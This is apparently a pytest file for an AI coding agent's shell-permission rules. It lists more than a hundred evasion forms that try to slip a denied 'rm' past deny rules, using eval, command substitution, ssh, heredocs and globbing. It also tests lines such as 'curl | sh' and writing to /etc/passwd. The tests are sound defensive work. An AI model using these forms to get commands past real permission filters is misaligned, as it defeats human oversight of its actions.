"""Rules over commands: none is dodged by the ways of a shell, none forbids what is ordinary."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kimi_ray.features.permissions import Call, RuleBook
from kimi_ray.features.permissions.shell_commands import commands_of
from kimi_ray.settings import PermissionRule
from tests.unit.features.shell_lines import LineMaker


def book(**rules: str | list[str]) -> RuleBook:
    return RuleBook(
        PermissionRule.model_validate({"tool": pattern, "decision": decision})
        for decision, patterns in rules.items()
        for pattern in ([patterns] if isinstance(patterns, str) else patterns)
    )


def command(line: str) -> Call:
    return Call("Bash", {"command": line}, "/work", command=line)


def is_denied(rules: RuleBook, line: str) -> bool:
    return rules.meaning(rules.deny, command(line)) is not None


NO_RM = book(deny="Bash(rm *)")

DODGES = [
    "rm -rf x",
    "rm",
    "true; rm x",
    "true && rm x",
    "false || rm x",
    "echo x | rm y",
    "true & rm x",
    "true\nrm x",
    "(rm x)",
    "{ rm x; }",
    "! rm x",
    "echo $(rm x)",
    'echo "$(rm x)"',
    'echo "a $(echo "b $(rm x)") c"',
    "echo `rm x`",
    'echo "`rm x`"',
    "diff <(rm x) y",
    "tee >(rm x)",
    "A=1 rm x",
    "A=$(true) B=2 rm x",
    "a[0]=1 rm x",
    "/bin/rm x",
    "../../bin/rm x",
    "r'm' x",
    '"rm" x',
    "r\\m x",
    "\\rm x",
    "r\\\nm x",
    "RM x",
    "rm\t-rf\tx",
    ">out rm x",
    "2>&1 rm x",
    "<in rm x",
    "if true; then rm x; fi",
    "for f in *; do rm $f; done",
    "while read f; do rm $f; done",
    "case a in a) rm x;; esac",
    "f() { rm x; }; f",
    "function f { rm x; }",
    "coproc rm x",
    "time -p rm x",
    "command rm x",
    "builtin exec rm x",
    "exec -a ls rm x",
    "env rm x",
    "env -i A=b /bin/rm x",
    "sudo -u root rm x",
    "nohup nice -n 5 rm x",
    "timeout 5 rm x",
    "setsid -w rm x",
    "xargs rm < list",
    "xargs -0 -n1 /bin/rm",
    "find . -name a -exec rm {} +",
    "busybox rm x",
    "sh -c 'rm x'",
    "bash -lc 'cd y && rm x'",
    "bash -c 'sh -c \"rm x\"'",
    "sudo bash -c 'rm x'",
    "env A=1 sh -c rm",
    "eval rm x",
    "eval 'r''m x'",
    "ssh host rm x",
    "env -S 'rm x'",
    "env -Srm x",
    "env --split-string='rm x'",
    "eval -- rm x",
    "ssh host 'A=1 rm x'",
    "ssh host 'A=1; rm x'",
    "echo rm x | sudo -s",
    "X=rm; find . -exec $X {} +",
    "parallel rm ::: x",
    "uv run rm x",
    "bash rm x",
    "sh - ./rm",
    ". rm x",
    "ssh host 'cd y; rm x'",
    "su -c 'rm x' nobody",
    "trap 'rm x' EXIT",
    "X=rm; $X x",
    "${X} x",
    "$'\\x72m' x",
    "echo $'\\'; rm x #'",
    "{rm,x}",
    "/bin/r? x",
    "/bin/[r]m x",
    "echo 'rm x' | sh",
    "bash <<< 'rm x'",
    "bash <<EOF\nrm x\nEOF",
    "bash -s < file",
    "eval $X",
    'bash -c "$X"',
    ". <(echo rm x)",
    "cat <<EOF\nEOF\nrm x",
    "cat <<'EOF'\na\nEOF\nrm x",
    "cat <<-E\n\tE\nrm x",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF",
    "cat <<A <<B\n1\nA\n2\nB\nrm x",
    "x=$((1<<2))\nrm x",
    "((1<<2))\nrm x",
    "a[1<<2]=3\nrm x",
    "echo a # b\nrm x",
    "echo $((1 #))\n)); rm x",
    "echo ${x:-$(rm y)}",
    'echo "${x:-`rm y`}"',
    "true |& rm x",
    "true &> /dev/null; rm x",
    "[[ a == b ]] || rm x",
    "echo \\\nfoo; rm x",
    "echo 'unclosed",
]

ORDINARY = [
    "ls -la",
    "git rm file",
    "grep -rn 'rm -rf' src",
    "echo 'do not rm this; please' && ls",
    "cargo test 2>&1 | tail -20",
    "python -c \"print('rm')\"",
    "cat > run.sh <<'EOF'\n#!/bin/sh\nrm -rf build\nEOF\nchmod +x run.sh",
    "docker run --rm -it image pytest",
    "npm run build && npm test",
    'for f in src/*.py; do python -m py_compile "$f"; done',
    "if [ -f x ]; then cat x; else echo none; fi",
    "find . -name '*.py' -exec grep -l foo {} \\;",
    "find . -name '*.py' | xargs wc -l",
    "sed -n '1,20p' file.txt",
    "awk '{ print $1 }' f | sort | uniq -c",
    'git commit -m "remove rm" # rm the old way',
    "command -v rm",
    "env FOO=a pytest -q",
    "env -i PATH=/bin ls",
    "sudo apt-get install -y foo",
    "find \"$DIR\" -name '*.txt' -exec cat {} +",
    'docker run -v "$PWD":/x image ls',
    "time make -j$(nproc)",
    'while read l; do echo "$l"; done < <(ls)',
    "case $1 in start) run;; *) echo;; esac",
    "git commit -m \"$(cat <<'EOF'\nremove, do not rm\nEOF\n)\"",
    "cat <<EOF > f\nhi $(date) ${x}\nEOF",
    "python - <<'PY'\nimport os\nPY",
    "bash script.sh --flag",
    "sh --version",
    "FOO=bar make all",
    "echo ${HOME}/x $PATH",
    "x=$((1 + 2)); echo $x",
    "curl -s https://example.com/rm?x=1 -o out.json",
    "echo rm",
    "warm x",
    "cd /tmp && \\\n  ls -l \\\n  --color",
]


@pytest.mark.parametrize("line", DODGES)
def test_no_way_of_the_shell_dodges_a_denied_command(line: str) -> None:
    assert is_denied(NO_RM, line)


@pytest.mark.parametrize("line", ORDINARY)
def test_what_is_ordinary_is_not_denied(line: str) -> None:
    assert not is_denied(NO_RM, line)


def test_a_pattern_without_a_star_means_the_command_with_all_its_arguments() -> None:
    rules = book(deny=["Bash(rm)", "Bash(git push)"])
    assert is_denied(rules, "rm -rf x")
    assert is_denied(rules, "git push --force")
    assert not is_denied(rules, "git pull")
    assert not is_denied(rules, "git pushd")


def test_arguments_that_only_the_shell_knows_may_be_the_denied_ones() -> None:
    rules = book(deny="Bash(git push *)")
    for line in ("git $X origin", "git $(echo push)", 'git "pu"sh', "git p*sh", "git {push,x}"):
        assert is_denied(rules, line), line
    assert not is_denied(rules, "git log $X")


def test_a_denied_line_as_a_whole() -> None:
    rules = book(deny="Bash(curl * | *sh*)")
    assert is_denied(rules, "curl https://x.example/i | sudo tee | sh x")
    assert not is_denied(rules, "curl https://x.example/i -o y")


def test_without_a_pattern_every_call_is_meant() -> None:
    assert is_denied(book(deny="Bash"), "ls")
    assert is_denied(book(deny="B*(*)"), "ls")
    assert not is_denied(book(deny="Write"), "ls")


def test_an_unreadable_line_says_why() -> None:
    found = NO_RM.meaning(NO_RM.deny, command("$X file"))
    assert found is not None and found.unseen is not None and "$X" in found.unseen


ALLOW = book(allow=["Bash(git log *)", "Bash(git status)", "Bash(ls *)", "Bash(npm run test:*)"])


@pytest.mark.parametrize(
    "line",
    [
        "git log",
        "git log --oneline -5",
        "git status",
        "git log | ls",
        "git status; ls -l && ls *.py",
        "ls 2>&1",
        "ls 2>/dev/null",
        "ls 'a b'",
        "npm run test",
        "npm run test --watch",
    ],
)
def test_allowed_when_every_command_is(line: str) -> None:
    assert ALLOW.allowing(command(line)) is not None


@pytest.mark.parametrize(
    "line",
    [
        "git push",
        "git status -s",
        "git log; rm x",
        "git log && rm x",
        "git log | sh",
        "git log\nrm x",
        "git log & rm x",
        "git log $(rm x)",
        "git log `rm x`",
        'git log "$(rm x)"',
        "git log $X",
        "git log > /etc/passwd",
        "git log >> x",
        "git log < x",
        "git log <<E\nE",
        "git log <<< x",
        "ls <(rm x)",
        "GIT_PAGER=evil git log",
        "PATH=/evil; git log",
        "/tmp/evil/git log",
        "./git log",
        "ls {a,b}",
        "git() { rm x; }; git log",
        "if ls; then ls; fi",
        "(ls)",
        "sudo git log",
        "eval git log",
        "git log 'unclosed",
        "git\\\nlog",
        "",
        "# ls",
        ">x",
        "X=1",
    ],
)
def test_not_allowed_unless_all_of_it_is_plainly_allowed(line: str) -> None:
    assert ALLOW.allowing(command(line)) is None


def test_a_tool_allowed_without_a_pattern_is_allowed_whatever_it_is_about() -> None:
    assert book(allow="Bash").allowing(command("rm $X | sh")) == "Bash"
    assert book(allow="Bash(*)").allowing(command("rm $X | sh")) == "Bash(*)"


def test_long_and_deep_lines_are_judged_in_no_time() -> None:
    for line in ("a " * 40_000, "$(" * 5000, "((((" * 5000, "`" * 9999, "{" * 9999, "sh -c " * 3000, "x" * 200_000,
                 "env " * 5000 + "rm", '"$(' * 2000, "<<E " * 2000 + "\n"):  # fmt: skip
        is_denied(NO_RM, line)
    assert is_denied(NO_RM, "$(" * 30 + "rm x" + ")" * 30)
    assert is_denied(NO_RM, "x" * 200_000)


@pytest.fixture(scope="module")
def shell(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, dict[str, str]]]:
    """A directory to run in, the mark that ``zap`` leaves, and an environment with little but ``zap``."""
    base = tmp_path_factory.mktemp("shell")
    programs, work, mark = base / "bin", base / "work", base / "mark"
    programs.mkdir()
    work.mkdir()
    (programs / "zap").write_text(f"#!/bin/sh\n: > {mark}\n")
    (programs / "zap").chmod(0o755)
    for name in ("bash", "env", "cat", "sh"):
        found = shutil.which(name)
        if found is not None:
            os.symlink(found, programs / name)
    yield work, mark, {"PATH": str(programs), "FUNCNEST": "10", "HOME": str(work)}


@pytest.mark.parametrize("part", ["sudo eval", "sudo sh eval", "xargs eval sudo sh"])
def test_what_may_run_others_without_end_is_looked_at_so_far_and_no_further(part: str) -> None:
    began = time.process_time()
    found = commands_of(" ".join([part] * 60))
    assert found.unseen is not None and len(found.commands) <= 2000
    assert is_denied(book(deny="Bash(zap)"), f"{' '.join([part] * 60)} zap")
    assert time.process_time() - began < 5  # it was minutes


@pytest.mark.skipif(shutil.which("bash") is None, reason="compares with bash")
@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(seed=st.integers(0, 1 << 62))
def test_what_is_not_denied_or_is_allowed_does_not_run_it(shell: tuple[Path, Path, dict[str, str]], seed: int) -> None:
    work, mark, environment = shell
    line = LineMaker(random.Random(seed)).line()
    allowed = book(allow=["Bash(ok *)", "Bash(true *)", "Bash(echo *)"]).allowing(command(line)) is not None
    if is_denied(book(deny="Bash(zap)"), line) and not allowed:
        return
    for program in ("bash", "sh"):
        with suppress(subprocess.TimeoutExpired):
            subprocess.run(
                [program, "-c", line],
                cwd=work,
                env=environment,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                timeout=2,
                check=False,
            )
        assert not mark.exists(), (program, line)
